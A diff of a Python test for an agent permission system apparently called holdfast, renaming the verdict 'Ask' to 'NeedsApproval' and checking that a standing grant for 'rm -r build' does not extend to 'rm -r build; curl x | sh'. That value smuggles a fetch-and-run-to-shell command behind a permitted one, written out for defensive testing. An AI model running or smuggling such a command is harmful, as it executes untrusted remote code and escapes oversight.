@@ -5,7 +5,7 @@ from pathlib import Path
 
 from holdfast.agent.policy import AlwaysGrants, ConfiguredJudge
 from holdfast.journal.memory import MemoryDisk, MemoryStore
-from holdfast.policy.verdicts import Allow, Ask
+from holdfast.policy.verdicts import Allow, NeedsApproval
 from holdfast.values import Action
 
 
@@ -25,14 +25,14 @@ async def test_what_was_granted_for_good_holds_everywhere_but_covers_nothing_els
     granted, more = removing(tmp_path, "rm -r build"), removing(tmp_path, "rm -r build; curl x | sh")
     rule = await asyncio.to_thread(judge.rule, granted, (), workspace=tmp_path)
     assert rule is not None
-    assert await verdict(judge, granted, tmp_path) is Ask
+    assert await verdict(judge, granted, tmp_path) is NeedsApproval
     await judge.remember("gra_1", rule)
     for again in (judge, ConfiguredJudge(home=tmp_path / "home", always=AlwaysGrants(MemoryStore(disk)))):
         assert again.always is not None
         await again.always.load()
         assert await verdict(again, granted, tmp_path) is Allow
-        assert await verdict(again, more, tmp_path) is Ask
+        assert await verdict(again, more, tmp_path) is NeedsApproval
         choices = await asyncio.to_thread(again.choices, more, (), workspace=tmp_path)
         assert choices == ("once", "deny")
     await always.remove("gra_1")
-    assert await verdict(judge, granted, tmp_path) is Ask
+    assert await verdict(judge, granted, tmp_path) is NeedsApproval
